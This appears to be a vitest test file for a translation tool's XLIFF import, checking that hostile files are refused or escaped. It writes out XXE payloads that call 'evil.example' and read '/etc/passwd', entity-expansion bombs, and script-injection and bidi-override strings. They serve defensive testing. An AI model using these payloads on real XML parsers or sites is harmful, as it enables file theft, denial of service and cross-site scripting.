import { expect, test } from 'vitest';
import { encode } from '../../src/formats/xliff/bytes.ts';
import { reporters } from '../../src/report/index.ts';
import type { MemoryHost } from '../memory-host.ts';
import { createProject, dateline } from './project.ts';
import { put, returned, take, translate } from './returned.ts';

const DOCTYPES: Readonly<Record<string, string>> = {
  'an entity on the network': '<!DOCTYPE xliff [<!ENTITY a SYSTEM "http://evil.example/a">]>',
  'an entity of parameters': '<!DOCTYPE xliff [<!ENTITY % a SYSTEM "file:///etc/passwd"> %a;]>',
  'a definition elsewhere': '<!DOCTYPE xliff SYSTEM "http://evil.example/x.dtd">',
  'an entity that holds itself': '<!DOCTYPE xliff [<!ENTITY a "&b;"><!ENTITY b "&a;">]>',
  'entities that grow with every step': `<!DOCTYPE xliff [<!ENTITY e0 "x">${Array.from(
    { length: 30 },
    (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`,
  ).join('')}]>`,
  'one long entity many times': `<!DOCTYPE xliff [<!ENTITY a "${'x'.repeat(100_000)}">]>`,
};

test.each(Object.entries(DOCTYPES))('a file with %s is refused at once', async (_, doctype) => {
  const use = doctype.includes('e30') ? '&e30;' : '&a;'.repeat(30_000);
  const host = await returned((xliff) =>
    translate(xliff).replace('?>', `?>${doctype}`).replace('<target>', `<target>${use}`),
  );
  const begin = process.cpuUsage();
  const { codes, written } = await take(host);
  expect([codes[0], written]).toEqual(['xliff/doctype', []]);
  expect(process.cpuUsage(begin).user / 1e6).toBeLessThan(1);
});

test('a file in UTF-16 or with a BOM is taken like its twin in plain UTF-8', async () => {
  const results: string[] = [];
  for (const [encoding, hasBom] of [
    ['utf-8', false],
    ['utf-8', true],
    ['utf-16le', true],
    ['utf-16be', true],
  ] as const) {
    const host = await returned(translate);
    const text = host.text('back.xlf')!.replace(/encoding="[^"]*"/, `encoding="${encoding.slice(0, 6)}"`);
    put(
      host,
      'back.xlf',
      encode(text.replace('UTF-1"', 'UTF-16"').replace('utf-1"', 'utf-16"'), encoding, hasBom),
    );
    expect((await take(host)).codes).toEqual([]);
    results.push(`${host.text('xliff/fr/harbour.xlf')}${host.text('locales/fr/articles/harbour.txt')}`);
  }
  expect(new Set(results).size).toBe(1);
  expect(results[0]).not.toContain('\ufeff');
});

test('bytes of another encoding are told with their offset, never taken as other letters', async () => {
  const host = await returned((xliff) => translate(xliff).replace('fr: Harbour', 'fr: |'));
  const bytes = host.files.get('/project/back.xlf')!;
  const at = bytes.indexOf(0x7c);
  const tunis = Uint8Array.from([0xca, 0xe6, 0xe4, 0xd3]);
  const fiveBytes = Uint8Array.from([0xf8, 0x88, 0x80, 0x80, 0x80]);
  for (const wrong of [tunis, fiveBytes]) {
    put(host, 'back.xlf', Buffer.concat([bytes.subarray(0, at), wrong, bytes.subarray(at + 1)]));
    const { codes, written } = await take(host);
    expect([codes, written]).toEqual([['xliff/encoding'], []]);
    await dateline(host, 'import', 'back.xlf');
    expect(host.err()).toMatch(new RegExp(`byte ${at}\\b`));
  }
});

test('an override and an embedding without end are taken as text, and are findings', async () => {
  const host = await returned((xliff) =>
    translate(xliff).replace('<target>fr: Harbour', '<target>fr: \u202eruobraH\u202c, \u202bHarbour'),
  );
  await take(host);
  expect(host.text('xliff/fr/harbour.xlf')).toContain('\u202eruobraH\u202c');
  const before = host.out().length;
  await dateline(host, 'check', '--locale', 'fr', '--reporter', 'json');
  const { findings } = JSON.parse(host.out().slice(before)) as { findings: { code: string }[] };
  expect(findings.map(({ code }) => code)).toEqual(
    expect.arrayContaining(['bidi/override', 'bidi/unbalanced']),
  );
});

test('markup that a translator wrote into the native code of XLIFF 1.2 is ours again', async () => {
  const host = createProject({
    'locales/en/articles/links.md': '# Harbour\n\nRead [the *report*](https://example.org/a) today.\n',
  });
  await dateline(host, 'export', '--xliff', '1.2');
  const sent = host.text('xliff/fr/links.xlf')!;
  const evil = '$1&lt;script&gt;alert(1)&lt;/script&gt;<';
  const back = sent.replaceAll(/<source>([^]*?)<\/source>/g, (source, text: string) => {
    const target = text.replaceAll(/(<(?:bpt|ept)\b[^>]*>)[^<]*</g, evil);
    return `${source}<target state="translated">${target}</target>`;
  });
  expect(back.match(/<[be]pt [^>]*>&lt;script/g)).toHaveLength(4);
  put(host, 'back.xlf', back);
  expect((await take(host)).codes).toEqual([]);
  expect(host.text('locales/fr/articles/links.md')).toContain('[the *report*](https://example.org/a)');
});

test('a unit id with markup is escaped in every form of a report', async () => {
  const id = 'x&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\u009b31m';
  const host = await returned((xliff) =>
    translate(xliff).replace('id="headline"', `id="${id}"`).replace('fr: Harbour', 'fr:  \u202eHarbour'),
  );
  for (const reporter of Object.keys(reporters)) {
    const before = host.out().length;
    await dateline(host, 'check', 'back.xlf', '--reporter', reporter);
    const report = host.out().slice(before);
    expect(report).toContain('bidi/override');
    if (reporter === 'html') expect(report).not.toContain('<script');
    if (reporter === 'text' || reporter === 'github') expect(report).not.toMatch(/[\u0080-\u009f]/);
  }
});

test('a line separator in a translation stays out of the scripts of a preview page', async () => {
  const host = await returned((xliff) => translate(xliff).replace('fr: Harbour', 'fr: \u2028Harbour\u2029'));
  await take(host);
  await dateline(host, 'preview', '--locale', 'fr');
  for (const [, script = ''] of pagesOf(host).flatMap((page) => [
    ...page.matchAll(/<script[^>]*>([^]*?)<\/script>/g),
  ]))
    expect(script).not.toMatch(/[\u2028\u2029]/);
  expect(pagesOf(host).join('')).toContain('Harbour');
});

function pagesOf(host: MemoryHost): readonly string[] {
  return [...host.files.keys()]
    .filter((path) => path.endsWith('.html'))
    .map((path) => host.text(path.slice('/project/'.length)) ?? '');
}
